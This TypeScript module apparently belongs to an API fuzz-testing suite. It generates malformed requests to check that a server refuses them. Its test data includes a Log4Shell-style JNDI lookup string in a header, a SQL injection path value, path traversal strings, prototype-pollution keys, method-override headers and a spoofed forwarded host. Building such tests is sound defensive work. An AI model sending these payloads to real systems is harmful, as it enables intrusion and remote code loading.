import { createHash } from 'node:crypto'
import type { FuzzRequest } from './fuzz-requests.ts'
import { formOf, jsonOf, urlOf, wireOf } from './fuzz-requests.ts'
import type { FuzzRoute, Parameter, Schema } from './fuzz-routes.ts'
import type { Json } from './fuzz-values.ts'
import type { Wire } from './fuzz-world.ts'
import { bodyMutations } from './fuzz-body-mutations.ts'
import { badDates, type Mutation } from './fuzz-kinds.ts'

/**
 * Of each kind at each place some, others at other places: by the name of the place, so that no seed
 * decides, and over all routes every value has its turn.
 */
export function someMutationsOf(route: FuzzRoute): Mutation[] {
  const groups = Map.groupBy(mutationsOf(route), kindOf)
  return [...groups].flatMap(([kind, all]) => {
    const amount = manyAtOnce.test(kind) ? 4 : 2
    const start = createHash('sha256').update(`${route.name} ${kind}`).digest().readUInt16BE()
    return all.length <= amount
      ? all
      : Array.from({ length: amount }, (_, index) => all[(start + index) % all.length]!)
  })
}

const manyAtOnce = /^A80|^A82 path/

/** The kind and its place, without the value: `A77 wrong at body.name`. */
export function kindOf({ name }: Pick<Mutation, 'name'>): string {
  const [id = '', word = ''] = name.split(' ')
  const place = / at ((?:body|query|path)\.\S+)$/.exec(name)?.[1] ?? ''
  return `${id} ${['A80', 'A81', 'A83'].includes(id) ? '' : word} at ${place}`
}

/** Every kind of the catalogue (A44–A46, A77–A88) that this route has a place for. */
export function mutationsOf(route: FuzzRoute): Mutation[] {
  return [
    ...(route.body ? bodyMutations(route.body) : []),
    ...route.query.flatMap(ofQuery),
    ...anyQuery(route),
    ...route.pathParameters.flatMap(({ name }) => ofPath(name)),
    ...ofHeaders(route),
    ...(route.isUpload ? ofUpload : []),
  ]
}

const withQuery = (pair: string) => (request: FuzzRequest) => ({
  ...wireOf(request),
  url: urlOf({ ...request, query: {} }, [pair]),
})

function ofQuery({ name, schema }: Parameter): Mutation[] {
  const key = encodeURIComponent(name)
  const isList = schema.type === 'array'
  const bad: Array<[id: string, value: string]> = [
    ['A82 NUL', 'a%00b'],
    ['A82 cut UTF-8', '%ED%A0%80'],
    ['A79 huge', 'a'.repeat(6000)],
    ...wrongTexts(schema),
  ]
  const spoilt = bad.map(([id, value]) => ({
    name: `${id} ${value.slice(0, 24)} at query.${name}`,
    expects: isExpectedToPass(schema, id) ? ('any' as const) : ('refused' as const),
    wire: withQuery(`${key}=${value}`),
  }))
  const twice: Mutation = {
    name: `A46 twice at query.${name}`,
    expects: isList ? 'any' : 'refused',
    wire: withQuery(`${key}=1&${key}=2`),
  }
  return [...spoilt, twice]
}

/** A half surrogate in an address arrives as U+FFFD, which is a character like any other. */
const isExpectedToPass = (schema: Schema, id: string) =>
  id === 'A82 cut UTF-8' && schema.type === 'string' && !schema.pattern && !schema.format

function wrongTexts({ type, format, enum: words, pattern }: Schema): Array<[string, string]> {
  if (type === 'integer')
    return ['NaN', '1e309', '1e2', '5.5', '-0', '-5', '0x10', '%205', '2147483648', '']
      .concat('9007199254740993', '99999999999999999999', 'true')
      .map((value) => ['A80', value])
  if (type === 'boolean') return ['5', 'yes', '[]'].map((value) => ['A77 wrong type', value])
  if (format === 'date' || format === 'date-time')
    return badDates.map((value) => ['A81', encodeURIComponent(value)])
  if (format === 'uuid') return badIds.map((value) => ['A77 wrong id', value])
  if (words || pattern) return ['~', '__proto__'].map((value) => ['A77 unknown word', value])
  return []
}

const badIds = ['1', '%27', '{01938f2e-7b1a-7c00-8000-1234567890ab}', 'urn:uuid:1', 'null']

/** An identity provider may add to its answer what it likes (RFC 6749, 4.1.2): those are ignored. */
const takesAnyQuery = ({ path }: FuzzRoute) => path.endsWith('/oidc/{provider}/callback')

const anyQuery = (route: FuzzRoute): Mutation[] =>
  ['inventado=1', '__proto__=1', '__proto__[a]=1', 'constructor.prototype.a=1', 'limit[]=1'].map(
    (pair) => ({
      name: `A77 unknown query ${pair}`,
      expects: takesAnyQuery(route) ? 'denied' : 'refused',
      wire: withQuery(pair),
    }),
  )

const oddPaths = [
  '%00',
  '%2F',
  '..%2F..%2Fme',
  '%ED%A0%80',
  '%',
  'a'.repeat(290),
  'a'.repeat(4000),
  '%F0%9D%92%B3',
  '0',
  '-1',
  '1e2',
  '2147483648',
  '9999999999',
  '99999999999999999999',
  '__proto__',
  'constructor',
  '%27%20or%201%3D1--',
  '01938f2e7b1a7c0080001234567890ab',
  '%7B01938f2e-7b1a-7c00-8000-1234567890ab%7D',
]

const ofPath = (name: string): Mutation[] =>
  oddPaths.map((text) => ({
    name: `A82 path ${text.slice(0, 24)} at path.${name}`,
    expects: 'denied',
    wire: (request) => {
      const mark = 'marca-del-lugar'
      const url = urlOf({ ...request, path: { ...request.path, [name]: mark } })
      return { ...wireOf(request), url: url.replace(mark, text) }
    },
  }))

const oddHeaders: Array<[id: string, headers: Record<string, string>]> = [
  ['A44', { 'user-agent': '\u001b[31m${jndi:ldap://x/a}\u00e9\t%s', referer: 'javascript:1' }],
  ['A88 If-Match', { 'if-match': 'W/"\'"' }],
  ['A88 If-Match', { 'if-match': '"99999999999999999999"' }],
  ['A88 If-Match', { 'if-match': '"1", "2"' }],
  ['A82 language', { 'accept-language': `${'x;q=9,'.repeat(500)}es;q=NaN` }],
  ['A82 accept', { accept: 'application/xml;q=1, */*;q=0' }],
  ['A82 cookie', { cookie: 'mesa_refresh=%00; mesa_device=%ED%A0%80; __proto__=1' }],
  ['A85 override', { 'x-http-method-override': 'DELETE', 'x-method-override': 'DELETE' }],
  ['A85 host', { host: "a'%00b" }],
  ['A85 forwarded', { 'x-forwarded-host': 'evil.example', 'x-original-url': '/api/v1/users' }],
]

function ofHeaders(route: FuzzRoute): Mutation[] {
  const odd = oddHeaders.map(([id, headers], index): Mutation => ({
    name: `${id} header ${index}`,
    expects: 'any',
    wire: (request) => withHeaders(wireOf(request), headers),
  }))
  if (route.method !== 'POST') return odd
  const keys = ['\u0007', 'a b', 'k'.repeat(201), 'ñ', '']
  return [
    ...odd,
    ...keys.map((key): Mutation => ({
      name: `A87 Idempotency-Key ${JSON.stringify(key).slice(0, 12)}`,
      expects: 'any',
      wire: (request) => withHeaders(wireOf(request), { 'idempotency-key': key }),
    })),
  ]
}

const withHeaders = (wire: Wire, headers: Record<string, string>): Wire => ({
  ...wire,
  headers: { ...wire.headers, ...headers },
})

const ofUpload: Mutation[] = [
  { name: 'A84 upload as JSON', expects: 'refused', wire: (request) => asJson(request, {}) },
  {
    name: 'A84 upload cut',
    expects: 'refused',
    wire: (request) => {
      const wire = wireOf(request)
      return { ...wire, payload: String(wire.payload).slice(0, -12) }
    },
  },
  {
    name: 'A84 upload without a boundary',
    expects: 'refused',
    wire: (request) => ({
      ...wireOf(request),
      headers: { 'content-type': 'multipart/form-data' },
    }),
  },
  ...['__proto__', 'constructor', '', 'otro'].map((name): Mutation => ({
    name: `A45 part called ${name}`,
    expects: 'refused',
    wire: (request) => {
      const { headers, payload } = formOf('dato.txt', 'texto')
      const renamed = payload.replace('name="file"', `name="${name}"`)
      return { ...wireOf(request), headers, payload: renamed }
    },
  })),
  ...['--fuzz\r\nx', '--fuzz', 'texto', '--fuzz\r\n\r\n\r\n--fuzz--', '--fuzz--'].map(
    (payload): Mutation => ({
      name: `A84 odd form ${JSON.stringify(payload)}`,
      expects: 'refused',
      wire: (request) => ({ ...wireOf(request), ...formOf('', ''), payload }),
    }),
  ),
  {
    name: 'A82 odd file name',
    expects: 'any',
    wire: (request) => ({ ...wireOf(request), ...formOf('..\\../\u202Eé.txt', 'x') }),
  },
]

const asJson = (request: FuzzRequest, body: Json): Wire => ({
  ...wireOf(request),
  ...jsonOf(JSON.stringify(body)),
})
